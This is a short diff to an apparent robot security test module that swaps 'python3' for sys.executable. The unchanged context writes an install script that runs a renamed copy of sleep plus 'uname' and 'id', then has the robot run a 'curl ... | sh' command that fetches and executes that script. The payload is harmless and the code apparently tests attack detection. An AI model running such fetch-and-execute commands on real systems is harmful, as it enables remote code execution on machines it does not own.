@@ -2,6 +2,7 @@
 
 import contextlib
 import subprocess
+import sys
 from pathlib import Path
 
 from tests.robots.attacks.acting import (
@@ -108,7 +109,7 @@ def _fetched(robot: Go1, draw: Draw) -> None:
     (folder / "install").write_text(
         f"mkdir -p {place}\ncp /bin/sleep {place}/{draw.name('left')}\n{place}/{draw.name('left')} 60 &\nuname -a\nid\n"
     )
-    robot.internet.popen(["python3", "-m", "http.server", str(port), "--bind", address], cwd=folder)
+    robot.internet.popen([sys.executable, "-m", "http.server", str(port), "--bind", address], cwd=folder)
     robot.internet.wait_for(port)
     start(robot, ["sh", "-c", f"curl -s http://{address}:{port}/install | sh"])
     linger(4)
